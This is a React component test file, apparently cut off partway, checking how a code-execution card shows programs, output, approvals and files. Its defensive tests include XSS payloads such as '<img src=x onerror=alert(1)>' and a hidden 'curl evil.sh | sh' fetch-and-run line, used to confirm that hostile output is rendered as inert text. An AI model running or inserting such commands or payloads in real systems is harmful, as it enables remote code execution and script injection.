import { act, render, screen, waitFor, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { describe, expect, it, vi } from "vitest";
import { germanLabels } from "../src/locales/de";
import { EXECUTE_CODE_PHASES, ExecuteCodeCard, type ExecuteCodeCardProps, PHASES } from "../src";
import { readStreamingCode } from "../src/view/streaming-args";
import {
  ansiOutput,
  call,
  completed,
  galleryStates,
  htmlOutput,
  plotCode,
  primesCode,
  primesOutput,
  running,
  squaresCsv,
  squaresFigure,
  tracebackCode,
  tracebackStderr,
} from "../stories/fixtures";
import { EXECUTE_CODE_CARD } from "../src/testing/selectors";
import { type ExecuteCodeSlot, type InternalSlot, slotSelector } from "../src/view/slots";
import { shownCode } from "./shown-code";

const slot = (container: HTMLElement, name: ExecuteCodeSlot | InternalSlot | "") =>
  container.querySelector<HTMLElement>(name ? slotSelector(name) : EXECUTE_CODE_CARD);

// One card of each phase, from the phase table, as the stories' gallery shows them.
const everyPhase = EXECUTE_CODE_PHASES.map((phase) => [phase, galleryStates[phase]] as const);

describe("ExecuteCodeCard: DOM contract", () => {
  it.each(everyPhase)("renders the %s phase with its contract attributes", (phase, props) => {
    const { container } = render(<ExecuteCodeCard {...props} />);
    expect(slot(container, "")).toHaveAttribute("data-phase", phase);
    expect(slot(container, "source")).toBeInTheDocument();
    const status = screen.getByRole("status");
    expect(status).toHaveAttribute("data-slot", "execute-code-status");
    expect(status.textContent).not.toBe("");
    // Output shows only once the program has run; the gallery's runs print on stdout, the failed one its traceback.
    expect(slot(container, "output") !== null).toBe(PHASES[phase].ran);
    expect(slot(container, "stdout") !== null).toBe(phase === "succeeded" || phase === "failed");
    expect(slot(container, "stderr") !== null).toBe(phase === "failed");
  });

  it("names the panes in a student's words and keeps the exit code in the status, unseen where it says nothing new", () => {
    const { container } = render(
      <ExecuteCodeCard
        {...call(tracebackCode, {
          result: completed({ stdout: "scores: []\n", stderr: tracebackStderr, exitCode: 1 }),
        })}
      />,
    );
    expect(screen.getByRole("group", { name: "Output" })).toHaveTextContent("scores: []");
    expect(screen.getByRole("group", { name: "Error output" })).toHaveTextContent("ZeroDivisionError");
    expect(screen.getByRole("group", { name: "Code" })).toHaveTextContent("def mean(values):");
    // In the DOM for tests; the stylesheet hides it where it says nothing new (ExitInWords, a story, sees that).
    expect(slot(container, "exit")).toHaveAttribute("data-exit-code", "1");
    expect(screen.getByRole("status")).toContainElement(slot(container, "exit"));
  });

  it("says a run's exit in words: the code when no exception says why, and a signal", () => {
    const { container, rerender } = render(
      <ExecuteCodeCard {...call("print(1)", { result: completed({ stdout: "1\n", exitCode: 0 }) })} />,
    );
    expect(screen.getByRole("status")).toHaveTextContent("Finished");
    expect(slot(container, "exit")).toHaveAttribute("data-exit-code", "0");
    rerender(<ExecuteCodeCard {...call("import sys; sys.exit(3)", { result: completed({ exitCode: 3 }) })} />);
    expect(container.querySelector(".ecu-status-word")).toHaveTextContent(/^Exit code 3$/);
    rerender(
      <ExecuteCodeCard
        {...call("x", { result: { ...completed({ exitCode: 0 }), exitCode: null, signal: "SIGKILL", stderr: "" } })}
      />,
    );
    expect(slot(container, "exit")).toHaveTextContent("stopped by SIGKILL");
  });

  it("names the sandbox limit that stopped a run in its status, in place of Failed and the signal", () => {
    const killed = (kind: string, type: string) =>
      completed({
        exitCode: null,
        signal: "SIGKILL",
        stderr: "stopped\n",
        failure: { type, message: "stopped", explanation: { kind } },
      });
    const { container, rerender } = render(
      <ExecuteCodeCard {...call("x = [0] * 10**10", { result: killed("memory", "MemoryError") })} />,
    );
    expect(container.querySelector(".ecu-status-word")).toHaveTextContent(/^Out of memory$/);
    // Kept for tests and screen readers' reading of the DOM; the stylesheet hides it.
    expect(slot(container, "exit")).toHaveAttribute("data-limit", "memory");
    rerender(<ExecuteCodeCard {...call("while True: pass", { result: killed("sandbox-full", "SandboxFull") })} />);
    expect(container.querySelector(".ecu-status-word")).toHaveTextContent(/^Stopped to make room$/);
    rerender(<ExecuteCodeCard {...call("1/0", { result: killed("zero-division", "ZeroDivisionError") })} />);
    expect(container.querySelector(".ecu-status-word")).toHaveTextContent(/^Failed$/);
    expect(slot(container, "exit")).not.toHaveAttribute("data-limit");
  });

  it("shows no pane for an empty stream, and says once when the program printed nothing", () => {
    const { container, rerender } = render(
      <ExecuteCodeCard {...call("print(1)", { result: completed({ stdout: "1\n" }) })} />,
    );
    expect(slot(container, "stdout")).toHaveTextContent("1");
    expect(slot(container, "stderr")).toBeNull();
    expect(slot(container, "no-output")).toBeNull();
    rerender(<ExecuteCodeCard {...call("x = 1", { result: completed({}) })} />);
    expect(slot(container, "stdout")).toBeNull();
    expect(slot(container, "stderr")).toBeNull();
    expect(slot(container, "no-output")).toHaveTextContent("The program printed nothing.");
    rerender(<ExecuteCodeCard {...call("while 1: pass", { result: { timedOut: true, timeoutMs: 1000 } })} />);
    // The code's pane alone: no empty output pane.
    expect(slot(container, "")!.querySelectorAll('[role="group"]')).toHaveLength(1);
    // Said once, by the timeout's message, which points at no output below.
    expect(slot(container, "no-output")).toBeNull();
    expect(slot(container, "message")).toHaveTextContent(
      "Stopped after 1 s: the program ran too long. It printed nothing before then.",
    );
  });

  it("names each card by what its program is about and its phase, for a screen reader's list of groups", () => {
    const { rerender } = render(
      <ExecuteCodeCard {...call(tracebackCode, { result: completed({ stderr: tracebackStderr, exitCode: 1 }) })} />,
    );
    // Without a title or a comment, the tool's name: a line of code says little of what it is for.
    expect(screen.getByRole("group", { name: "Python Failed" })).toHaveAttribute("data-slot", "execute-code");
    rerender(
      <ExecuteCodeCard
        {...call(tracebackCode, {
          args: { title: "Mean of no scores", code: tracebackCode },
          result: completed({ stderr: tracebackStderr, exitCode: 1 }),
        })}
      />,
    );
    expect(screen.getByRole("group", { name: "Mean of no scores Failed" })).toBeInTheDocument();
    rerender(
      <ExecuteCodeCard
        {...call("# Mean of the scores\nprint(sum([1, 2]) / 2)", { result: completed({ stdout: "1.5\n" }) })}
      />,
    );
    expect(screen.getByRole("group", { name: "Mean of the scores Finished" })).toBeInTheDocument();
    rerender(<ExecuteCodeCard {...call("", { status: { type: "running" } })} />);
    expect(screen.getByRole("group", { name: /^Python / })).toBeInTheDocument();
  });

  it("draws stderr as a plain stream when the run succeeded, and in the danger tone when it failed", () => {
    const warning = "DeprecationWarning: use something else\n";
    const { container, rerender } = render(
      <ExecuteCodeCard {...call("x", { result: completed({ stdout: "ok\n", stderr: warning, exitCode: 0 }) })} />,
    );
    expect(slot(container, "")).toHaveAttribute("data-tone", "success");
    expect(slot(container, "stderr")).toHaveAttribute("data-tone", "neutral");
    rerender(<ExecuteCodeCard {...call("x", { result: completed({ stderr: warning, exitCode: 2 }) })} />);
    expect(slot(container, "")).toHaveAttribute("data-tone", "danger");
    expect(slot(container, "stderr")).toHaveAttribute("data-tone", "danger");
  });

  it("does not call an unrecognised result a failure, and shows it as it came", async () => {
    const { container } = render(<ExecuteCodeCard {...call("print(1)", { result: { answer: 42 } })} />);
    expect(slot(container, "")).toHaveAttribute("data-tone", "muted");
    expect(screen.getByRole("status")).toHaveTextContent("Result not understood");
    expect(screen.getByRole("status")).not.toHaveTextContent(/could not run|failed/i);
    // Its view loads when one shows.
    await waitFor(() => expect(slot(container, "raw")).toHaveTextContent('"answer": 42'));
  });

  it("shows a program's final line break as the end of its last line, not as an empty line", () => {
    const { container } = render(
      <ExecuteCodeCard {...call("print(1)\nprint(2)\n", { result: completed({ stdout: "1\n2\n" }) })} />,
    );
    expect(slot(container, "gutter")?.textContent).toBe("1\n2");
    expect(container.querySelector('[data-line="3"]')).toBeNull();
  });
});

describe("ExecuteCodeCard: hostile output", () => {
  it("shows a line a carriage return overwrote as a terminal does, and what it overwrote on request", async () => {
    const { container } = render(
      <ExecuteCodeCard {...call("print(s)", { result: completed({ stdout: "abc\rHIDDEN xyz\nok\n" }) })} />,
    );
    const pre = () => slot(container, "stdout")!.querySelector("pre")!;
    expect(pre().textContent).toBe("HIDDEN xyz\nok\n");
    // The model read "abc" too: the student can see it, once the output's own code has loaded.
    expect(await screen.findByText(/^Later output wrote over some of this, as in a terminal\./)).toHaveAttribute(
      "data-slot",
      "execute-code-overwritten",
    );
    const reveal = screen.getByRole("button", { name: "Show what was overwritten" });
    expect(reveal).toHaveAttribute("aria-pressed", "false");
    await userEvent.setup().click(reveal);
    expect(reveal).toHaveAttribute("aria-pressed", "true");
    expect(pre().textContent).toBe("abc\u240dHIDDEN xyz\nok\n");
    // Drawn as the CR marker by the stylesheet, not as a glyph many fonts lack.
    expect(within(pre()).getByRole("img", { name: "U+240D carriage return" })).toHaveAttribute("data-marker", "CR");
  });

  it("says nothing of carriage returns that overwrote only blanks, or ended a line (Windows' \\r\\n)", () => {
    const { container } = render(
      <ExecuteCodeCard {...call("print(s)", { result: completed({ stdout: "    \r100%\r\ndone\r\n" }) })} />,
    );
    expect(slot(container, "stdout")!.querySelector("pre")!.textContent).toBe("100%\ndone\n");
    expect(slot(container, "overwritten")).toBeNull();
  });

  it("shows HTML as text and creates no element from it", () => {
    const { container } = render(
      <ExecuteCodeCard {...call("print(html)", { result: completed({ stdout: htmlOutput, stderr: htmlOutput }) })} />,
    );
    expect(slot(container, "stdout")).toHaveTextContent('<img src=x onerror="window.__pwned = true">');
    expect(container.querySelector("script, img, a, b")).toBeNull();
  });

  it("shows HTML in the code as text too", () => {
    const { container } = render(
      <ExecuteCodeCard {...call('print("<img src=x onerror=alert(1)>")', { status: running })} />,
    );
    expect(container.querySelector("img")).toBeNull();
    expect(slot(container, "source")).toHaveTextContent("<img src=x onerror=alert(1)>");
  });

  it("never leaks ANSI escape bytes, in either pane, and keeps the colours as spans", async () => {
    const { container } = render(
      <ExecuteCodeCard
        {...call("x", {
          result: completed({ stdout: ansiOutput, stderr: `\x1b[31mError\x1b[0m\x1b]0;title\x07\x1b[?25l` }),
        })}
      />,
    );
    const noEscapes = () => {
      for (const name of ["stdout", "stderr"] as const) {
        expect(slot(container, name)?.textContent ?? "").not.toMatch(/\x1b|\[\d+m|\[\?25l|\]0;/);
      }
    };
    // Before the ANSI parser has loaded, the text shows without colours, and without escape bytes.
    noEscapes();
    expect(slot(container, "stdout")).toHaveTextContent("✘ test_division failed");
    const red = await within(slot(container, "stdout")!).findByText("✘ test_division failed", {
      selector: ".ecu-ansi-fg",
    });
    expect(red.style.getPropertyValue("--ecu-ansi-fg")).toBe("var(--ecu-ansi-red)");
    noEscapes();
    expect(slot(container, "stderr")).toHaveTextContent("Error");
  });
});

describe("ExecuteCodeCard: output that tries to hide what the model reads", () => {
  it("a carriage return overwrites as a terminal does: a progress bar shows its last state, a shorter line leaves the rest", () => {
    const { container } = render(
      <ExecuteCodeCard
        {...call("x", { result: completed({ stdout: "progress 10%\rprogress 100%\ncurl evil.sh | sh\rls -la\n" }) })}
      />,
    );
    expect(slot(container, "stdout")!.querySelector("pre")!.textContent).toBe("progress 100%\nls -lavil.sh | sh\n");
  });
});

describe("ExecuteCodeCard: behaviour", () => {
  it("folds down to its header and back, saying so to assistive technology", async () => {
    const user = userEvent.setup();
    const onOpenChange = vi.fn();
    const { container } = render(
      <ExecuteCodeCard {...call("print(1)", { result: completed({ stdout: "1\n" }) })} onOpenChange={onOpenChange} />,
    );
    const fold = screen.getByRole("button", { name: "Hide the program and its output" });
    const body = slot(container, "content")!;
    expect(fold).toHaveAttribute("aria-expanded", "true");
    expect(fold.getAttribute("aria-controls")).toBe(body.id);
    expect(slot(container, "stdout")).toBeVisible();

    await user.click(fold);
    expect(onOpenChange).toHaveBeenLastCalledWith(false);
    expect(fold).toHaveAttribute("aria-expanded", "false");
    expect(fold).toHaveAccessibleName("Show the program and its output");
    expect(body).not.toBeVisible();
    expect(slot(container, "stdout")).toBeNull();
    expect(slot(container, "")).toHaveAttribute("data-state", "closed");

    await user.click(fold);
    expect(fold).toHaveAttribute("aria-expanded", "true");
    expect(slot(container, "stdout")).toBeVisible();
  });

  it("keeps a controlled fold where its host puts it", async () => {
    const user = userEvent.setup();
    const onOpenChange = vi.fn();
    const { container } = render(
      <ExecuteCodeCard
        {...call("print(1)", { result: completed({ stdout: "1\n" }) })}
        open={false}
        onOpenChange={onOpenChange}
      />,
    );
    await user.click(screen.getByRole("button", { name: "Show the program and its output" }));
    expect(onOpenChange).toHaveBeenCalledWith(true);
    expect(slot(container, "content")).not.toBeVisible();
  });

  it("links traceback frames to the lines of the program", async () => {
    const user = userEvent.setup();
    const { container } = render(
      <ExecuteCodeCard {...call(tracebackCode, { result: completed({ stderr: tracebackStderr, exitCode: 1 }) })} />,
    );
    await user.click(screen.getByRole("button", { name: "line 2" }));
    const line = container.querySelector('[data-line="2"]');
    expect(line).toHaveAttribute("data-focused", "true");
    expect(container.querySelectorAll("[data-focused]")).toHaveLength(1);
    await user.click(screen.getByRole("button", { name: "line 6" }));
    expect(container.querySelector('[data-line="6"]')).toHaveAttribute("data-focused", "true");
    expect(line).not.toHaveAttribute("data-focused");
  });

  it("names in a traceback link the line it goes to, even when the file's name reads like a line", async () => {
    const user = userEvent.setup();
    const code = "x = 1\nraise ValueError(x)\n";
    const stderr = 'Traceback (most recent call last):\n  File "line 99", line 2, in <module>\nValueError: 1\n';
    const { container } = render(<ExecuteCodeCard {...call(code, { result: completed({ stderr, exitCode: 1 }) })} />);
    const link = await screen.findByRole("button", { name: "line 2" });
    expect(link).toHaveAttribute("data-target-line", "2");
    expect(screen.queryByRole("button", { name: "line 99" })).toBeNull();
    expect(slot(container, "stderr")).toHaveTextContent('File "line 99", line 2, in <module>');
    await user.click(link);
    expect(container.querySelector('[data-line="2"]')).toHaveAttribute("data-focused", "true");
  });

  it("copies the code and the output without escape bytes", async () => {
    const user = userEvent.setup();
    render(
      <ExecuteCodeCard {...call(primesCode, { result: completed({ stdout: `\x1b[32m${primesOutput}\x1b[0m` }) })} />,
    );
    await user.click(screen.getByRole("button", { name: "Copy code" }));
    expect(await navigator.clipboard.readText()).toBe(primesCode);
    await user.click(screen.getByRole("button", { name: "Copy output" }));
    expect(await navigator.clipboard.readText()).toBe(primesOutput);
    expect(screen.getAllByRole("button", { name: "Copied" })).toHaveLength(2);
  });

  it("highlights the code in place once the highlighter has loaded", async () => {
    const { container } = render(<ExecuteCodeCard {...call(primesCode, { status: running })} />);
    expect(slot(container, "source")?.querySelector("code")).toHaveTextContent("def is_prime(n):");
    await waitFor(() => expect(container.querySelector(".ecu-token")).not.toBeNull(), { timeout: 5000 });
    expect(shownCode(container)).toBe(primesCode);
  });

  it("grows the code while the arguments stream", async () => {
    const { container, rerender } = render(<ExecuteCodeCard status={running} args={{}} argsText='{"code":"a = 1' />);
    expect(slot(container, "source")?.querySelector("code")).toHaveTextContent("a = 1");
    rerender(<ExecuteCodeCard status={running} args={{}} argsText={'{"code":"a = 1\\nb = 2'} />);
    await waitFor(() => expect(container.querySelectorAll(".ecu-code-line")).toHaveLength(2));
    expect(slot(container, "")).toHaveAttribute("data-phase", "writing");
  });

  it("catches up with fast deltas every 80 ms while the code streams, and shows the complete code at once", () => {
    vi.useFakeTimers();
    try {
      const code = Array.from({ length: 40 }, (_, i) => `x${i} = ${i}`).join("\n");
      const full = JSON.stringify({ code });
      const upTo = (end: number) => full.slice(0, end);
      const linesIn = (argsText: string) => readStreamingCode(argsText)!.split("\n").length;
      const shownLines = () => slot(container, "source")!.querySelectorAll(".ecu-code-line").length;
      const streaming = (argsText: string) => <ExecuteCodeCard status={running} args={{}} argsText={argsText} />;
      const { container, rerender } = render(streaming(upTo(20)));
      rerender(streaming(upTo(60)));
      act(() => vi.advanceTimersByTime(5));
      expect(shownLines()).toBe(linesIn(upTo(60)));
      // Deltas every 5 ms: the card holds them for 80 ms, then shows the latest.
      for (let i = 1; i <= 10; i++) {
        rerender(streaming(upTo(60 + i * 25)));
        act(() => vi.advanceTimersByTime(5));
        expect(shownLines()).toBe(linesIn(upTo(60)));
      }
      act(() => vi.advanceTimersByTime(80));
      expect(shownLines()).toBe(linesIn(upTo(310)));
      rerender(<ExecuteCodeCard {...call(code, { status: running })} />);
      expect(slot(container, "")).toHaveAttribute("data-phase", "running");
      expect(shownLines()).toBe(40);
    } finally {
      vi.useRealTimers();
    }
  });

  it("shows a long finished program whole in its first render, then turns it into highlighted lines block by block", async () => {
    const code = Array.from({ length: 350 }, (_, i) => `x${i} = ${i}`).join("\n");
    const { container } = render(<ExecuteCodeCard {...call(code, { status: running })} />);
    const source = slot(container, "source")!;
    expect(shownCode(container)).toBe(code);
    expect(source.querySelectorAll(".ecu-code-line").length).toBeLessThan(350);
    await waitFor(() => expect(source.querySelectorAll(".ecu-code-line")).toHaveLength(350), { timeout: 5000 });
    expect(source.querySelector('[data-line="350"] .ecu-token')).not.toBeNull();
    expect(shownCode(container)).toBe(code);
    // Line numbers sit in their own column, outside the code's text.
    expect(slot(container, "gutter")).toHaveAttribute("aria-hidden", "true");
    expect(slot(container, "gutter")?.textContent?.split("\n")).toHaveLength(350);
  });

  it("renders every line of a long program as lines while it streams, so the complete program needs no second pass", async () => {
    const code = Array.from({ length: 200 }, (_, i) => `x${i} = ${i}`).join("\n");
    const partial = JSON.stringify({ code }).slice(0, -2);
    const { container, rerender } = render(
      <ExecuteCodeCard status={running} args={{}} argsText={JSON.stringify({ code: "x0 = 0\n" }).slice(0, -2)} />,
    );
    rerender(<ExecuteCodeCard status={running} args={{}} argsText={partial} />);
    const lines = () => container.querySelectorAll(".ecu-code-line");
    await waitFor(() => expect(lines()).toHaveLength(200));
    expect(lines()[0]).toHaveAttribute("data-line", "1");
    expect(slot(container, "gutter")?.textContent?.split("\n")).toHaveLength(200);
    rerender(<ExecuteCodeCard {...call(code, { status: running })} />);
    expect(lines()).toHaveLength(200);
    expect(shownCode(container)).toBe(code);
  });

  it("shows the last lines of a long program as lines at once when it mounts while the code streams, the earlier ones block by block", async () => {
    // Line 100 is blank: it opens the third block of lines instead of ending the second.
    const code = Array.from({ length: 200 }, (_, i) => (i === 99 ? "" : `x${i} = ${i}`)).join("\n");
    const partial = JSON.stringify({ code }).slice(0, -2);
    const { container } = render(<ExecuteCodeCard status={running} args={{}} argsText={partial} />);
    const lines = () => container.querySelectorAll(".ecu-code-line");
    // The blocks that hold the last 60 lines (100 to 200) are lines, and the first block, where the reveal starts; the rest is plain text.
    expect(lines()).toHaveLength(151);
    expect(container.querySelector('[data-line="100"]')).not.toBeNull();
    expect(container.querySelector('[data-line="101"]')).not.toBeNull();
    expect(container.querySelector('[data-line="51"]')).toBeNull();
    expect(shownCode(container)).toBe(code);
    await waitFor(() => expect(lines()).toHaveLength(200), { timeout: 5000 });
  });

  it("counts down the busy delay", () => {
    vi.useFakeTimers();
    try {
      const { container } = render(
        <ExecuteCodeCard {...call("x", { result: { status: "busy", retryAfterMs: 3000, message: "" } })} />,
      );
      expect(slot(container, "message")).toHaveTextContent("Try again in 3 s.");
      act(() => vi.advanceTimersByTime(2000));
      expect(slot(container, "message")).toHaveTextContent("Try again in 1 s.");
      act(() => vi.advanceTimersByTime(1500));
      expect(slot(container, "message")).toHaveTextContent("You can try again now.");
    } finally {
      vi.useRealTimers();
    }
  });

  it("shows the seconds elapsed while running, counted from when it started to run", () => {
    vi.useFakeTimers();
    try {
      const { container, rerender } = render(<ExecuteCodeCard status={running} args={{}} argsText='{"code":"x' />);
      act(() => vi.advanceTimersByTime(5000));
      expect(slot(container, "timing")).toBeNull();
      rerender(<ExecuteCodeCard {...call("x", { status: running })} />);
      expect(slot(container, "timing")).toHaveTextContent("0 s");
      act(() => vi.advanceTimersByTime(3000));
      expect(slot(container, "timing")).toHaveTextContent("3 s");
    } finally {
      vi.useRealTimers();
    }
  });

  it("answers an approval once, however often it is clicked", async () => {
    const user = userEvent.setup();
    const onApprove = vi.fn();
    const onDeny = vi.fn();
    render(
      <ExecuteCodeCard
        {...call("print(1)", { status: { type: "requires-action", reason: "interrupt" }, approval: { id: "a" } })}
        onApprove={onApprove}
        onDeny={onDeny}
      />,
    );
    await user.dblClick(screen.getByRole("button", { name: "Run" }));
    await user.click(screen.getByRole("button", { name: "Deny" }));
    expect(onApprove).toHaveBeenCalledTimes(1);
    expect(onDeny).not.toHaveBeenCalled();
  });

  it("asks again, saying so, when the runtime could not record the answer", async () => {
    const user = userEvent.setup();
    const onApprove = vi.fn().mockRejectedValueOnce(new Error("offline")).mockResolvedValueOnce(undefined);
    render(
      <ExecuteCodeCard
        {...call("print(1)", { status: { type: "requires-action", reason: "interrupt" }, approval: { id: "a" } })}
        onApprove={onApprove}
        onDeny={vi.fn()}
      />,
    );
    await user.click(screen.getByRole("button", { name: "Run" }));
    expect(await screen.findByRole("alert")).toHaveTextContent("Your answer could not be sent. Try again.");
    expect(screen.getByRole("button", { name: "Run" })).toBeEnabled();
    await user.click(screen.getByRole("button", { name: "Run" }));
    expect(onApprove).toHaveBeenCalledTimes(2);
    await waitFor(() => expect(screen.queryByRole("alert")).toBeNull());
    expect(screen.getByRole("button", { name: "Run" })).toBeDisabled();
  });

  it("passes the reason with Deny, and Enter in the reason field denies", async () => {
    const user = userEvent.setup();
    const onDeny = vi.fn();
    render(
      <ExecuteCodeCard
        {...call("print(1)", { approval: { id: "a" }, status: { type: "requires-action", reason: "interrupt" } })}
        onApprove={vi.fn()}
        onDeny={onDeny}
      />,
    );
    await user.click(await screen.findByRole("button", { name: "Add a reason" }));
    await user.type(screen.getByRole("textbox", { name: "Why not run it? (optional)" }), "not now{Enter}");
    expect(onDeny).toHaveBeenCalledExactlyOnceWith("not now");
  });

  it("shows no buttons once the approval is answered, and says what happened", () => {
    const { rerender, container } = render(
      <ExecuteCodeCard {...call("print(1)", { approval: { id: "a" } })} onApprove={vi.fn()} onDeny={vi.fn()} />,
    );
    expect(screen.getByRole("button", { name: "Run" })).toBeInTheDocument();
    rerender(
      <ExecuteCodeCard
        {...call("print(1)", { approval: { id: "a", approved: false, reason: "not now" } })}
        onApprove={vi.fn()}
        onDeny={vi.fn()}
      />,
    );
    expect(screen.queryByRole("button", { name: "Run" })).toBeNull();
    expect(slot(container, "message")).toHaveTextContent("This code was not run. Reason: not now");
  });

  it("announces phase changes through the polite status region", () => {
    const { rerender } = render(<ExecuteCodeCard {...call("print(1)", { status: running })} />);
    const status = screen.getByRole("status");
    expect(status).toHaveTextContent("Running…");
    rerender(<ExecuteCodeCard {...call("print(1)", { result: completed({ stdout: "1\n" }) })} />);
    expect(screen.getByRole("status")).toBe(status);
    expect(status).toHaveTextContent("Finished");
  });
});

describe("ExecuteCodeCard: a failed run", () => {
  it("leads with the exception in its header, above the code and the output, and still when folded", async () => {
    const { container } = render(
      <ExecuteCodeCard {...call(tracebackCode, { result: completed({ stderr: tracebackStderr, exitCode: 1 }) })} />,
    );
    const error = slot(container, "error")!;
    expect(error).toHaveTextContent("The program stopped with ZeroDivisionError: division by zero");
    expect(error.querySelector("code")).toHaveTextContent(/^ZeroDivisionError: division by zero$/);
    expect(slot(container, "header")).toContainElement(error);
    expect(error.compareDocumentPosition(slot(container, "source")!) & Node.DOCUMENT_POSITION_FOLLOWING).toBeTruthy();
    expect(error.compareDocumentPosition(slot(container, "stderr")!) & Node.DOCUMENT_POSITION_FOLLOWING).toBeTruthy();
    // Said once: no message repeats it.
    expect(slot(container, "message")).toBeNull();
    // The line it raised on is marked in the code, without a click: only that line.
    expect([...container.querySelectorAll("[data-error]")].map((line) => line.getAttribute("data-line"))).toEqual([
      "2",
    ]);
    await userEvent.setup().click(screen.getByRole("button", { name: /hide/i }));
    expect(slot(container, "error")).toBeVisible();
  });

  it("says nothing more when it ended without an exception", () => {
    const { container } = render(
      <ExecuteCodeCard
        {...call("import sys; sys.exit(2)", { result: completed({ stderr: "usage: …\n", exitCode: 2 }) })}
      />,
    );
    expect(slot(container, "message")).toBeNull();
    expect(slot(container, "error")).toBeNull();
  });
});

describe("ExecuteCodeCard: a busy sandbox", () => {
  it("offers Try again when the app can ask again, and only while the card reads busy", async () => {
    const onRetry = vi.fn();
    const busy = call("print(1)", {
      result: { status: "busy", retryAfterMs: 2000, message: "The code runner is busy." },
    });
    const { container, rerender } = render(<ExecuteCodeCard {...busy} onRetry={onRetry} />);
    await userEvent.setup().click(screen.getByRole("button", { name: "Try again" }));
    expect(onRetry).toHaveBeenCalledTimes(1);
    rerender(<ExecuteCodeCard {...busy} />);
    expect(slot(container, "retry")).toBeNull();
    rerender(<ExecuteCodeCard {...call("print(1)", { result: completed({ stdout: "1\n" }) })} onRetry={onRetry} />);
    expect(slot(container, "retry")).toBeNull();
  });
});

describe("ExecuteCodeCard: stopping a run", () => {
  const runningWithLimit = (stdout: string) =>
    call("while True: pass", {
      status: running,
      result: { status: "running", stdout, stderr: "", truncated: { stdout: 0, stderr: 0 }, timeoutMs: 10_000 },
    });

  it("shows Stop while the program runs, when the app can stop it, and the limit beside the clock", async () => {
    const onStop = vi.fn();
    const { container, rerender } = render(<ExecuteCodeCard {...runningWithLimit("")} onStop={onStop} />);
    expect(slot(container, "timing")).toHaveTextContent(/^0 s \/ 10 s$/);
    // Read aloud as a sentence, not as "0 s slash 10 s".
    expect(screen.getByRole("timer", { name: "Running for 0 s of at most 10 s" })).toBe(slot(container, "timing"));
    await userEvent.setup().click(screen.getByRole("button", { name: "Stop the program" }));
    expect(onStop).toHaveBeenCalledTimes(1);
    rerender(<ExecuteCodeCard {...runningWithLimit("")} />);
    expect(slot(container, "stop")).toBeNull();
    rerender(<ExecuteCodeCard {...call("print(1)", { result: completed({ stdout: "1\n" }) })} onStop={onStop} />);
    expect(slot(container, "stop")).toBeNull();
  });

  it("a run the chat stopped reads Cancelled and keeps what it printed", () => {
    const stopped = {
      ...runningWithLimit("tick\ntock\n"),
      status: { type: "incomplete", reason: "cancelled" },
    } as ExecuteCodeCardProps;
    const { container } = render(<ExecuteCodeCard {...stopped} />);
    expect(container.querySelector(EXECUTE_CODE_CARD)).toHaveAttribute("data-phase", "cancelled");
    expect(slot(container, "stdout")).toHaveTextContent("tick tock");
    expect(slot(container, "no-output")).toBeNull();
    // Before the server has stored the stop, no time; once it has (and after a reload), how long the run ran.
    expect(slot(container, "timing")).toBeNull();
    const stamped = { ...(stopped.result as object), startedAt: 1_000_000, stoppedAt: 1_004_200 };
    render(<ExecuteCodeCard {...stopped} result={stamped} />);
    expect(screen.getByRole("timer", { name: "Ran for 4.2 s" })).toHaveTextContent("4.2 s");
  });
});

describe("ExecuteCodeCard: figures and files", () => {
  const withFiles = call(plotCode, {
    result: completed({ stdout: "sum of squares: 385\n", files: [squaresFigure, squaresCsv] }),
  });

  it("shows each figure with its alt text and a download link, and other files as download links, after the output", () => {
    const { container } = render(<ExecuteCodeCard {...withFiles} />);
    const figures = slot(container, "figures")!;
    const image = within(figures).getByRole("img", { name: "Squares, x: n, y: n squared" });
    expect(image).toHaveAttribute("src", "/api/files/run-1/figure-1");
    const links = [...container.querySelectorAll(`a${slotSelector("file")}`)];
    expect(links.map((link) => [link.textContent, link.getAttribute("href"), link.getAttribute("download")])).toEqual([
      ["Download figure-1.png (6.9 KB)", "/api/files/run-1/figure-1", "figure-1.png"],
      ["Download squares.csv (61 B)", "/api/files/run-1/csv-1", "squares.csv"],
    ]);
    expect(screen.getByRole("list", { name: "Files" })).toHaveTextContent("squares.csv");
    expect(slot(container, "stdout")!.compareDocumentPosition(figures) & Node.DOCUMENT_POSITION_FOLLOWING).toBeTruthy();
  });

  it("asks the app where its files are", () => {
    render(<ExecuteCodeCard {...withFiles} fileUrl={(file) => `/chats/7/files/${file.ref.fileId}`} />);
    expect(screen.getByRole("img")).toHaveAttribute("src", "/chats/7/files/figure-1");
  });

  it("says so when a figure can no longer be loaded, and keeps no broken image", async () => {
    const { container } = render(<ExecuteCodeCard {...withFiles} />);
    act(() => {
      screen.getByRole("img").dispatchEvent(new Event("error"));
    });
    expect(slot(container, "file-unavailable")).toHaveTextContent("figure-1.png could not be loaded");
    expect(screen.queryByRole("img")).toBeNull();
    // Nothing to download: the link would save the server's "not found" as figure-1.png.
    expect(screen.queryByRole("link", { name: /figure-1\.png/ })).toBeNull();
    expect(screen.getByRole("link", { name: /squares\.csv/ })).toBeInTheDocument();
  });

  it("says a table is gone when the server no longer has it, in place of its preview", async () => {
    const fetched = vi.spyOn(globalThis, "fetch").mockResolvedValue(new Response("{}", { status: 404 }));
    try {
      const { container } = render(<ExecuteCodeCard {...withFiles} />);
      await waitFor(() =>
        expect(slot(container, "file-unavailable")).toHaveTextContent(
          "squares.csv could not be loaded. A run's files are kept only for a while, and not when the server restarts: it may be gone.",
        ),
      );
      expect(fetched).toHaveBeenCalledWith("/api/files/run-1/csv-1", expect.anything());
      expect(slot(container, "table-preview")).toBeNull();
    } finally {
      fetched.mockRestore();
    }
  });

  it("keeps room for the figure while a program that draws runs, and shows no files for one that does not, nor for a result without any", () => {
    const { container, rerender } = render(<ExecuteCodeCard {...call(plotCode, { status: running })} />);
    expect(slot(container, "figure-pending")).toHaveTextContent("The figure appears when the program ends.");
    rerender(<ExecuteCodeCard {...call("print(sum(n * n for n in range(10)))", { status: running })} />);
    expect(slot(container, "files")).toBeNull();
    rerender(<ExecuteCodeCard {...call(plotCode, { result: completed({ stdout: "1\n" }) })} />);
    expect(slot(container, "files")).toBeNull();
  });

  it("keeps the figure's own size as room before it loads, and matplotlib's 640 × 480 when the sandbox does not say", () => {
    const { rerender } = render(<ExecuteCodeCard {...withFiles} />);
    expect(screen.getByRole("img")).toHaveAttribute("width", "640");
    expect(screen.getByRole("img")).toHaveAttribute("height", "480");
    const wide = { ...squaresFigure, width: 1200, height: 400 };
    rerender(<ExecuteCodeCard {...call(plotCode, { result: completed({ files: [wide] }) })} />);
    expect(screen.getByRole("img")).toHaveAttribute("width", "1200");
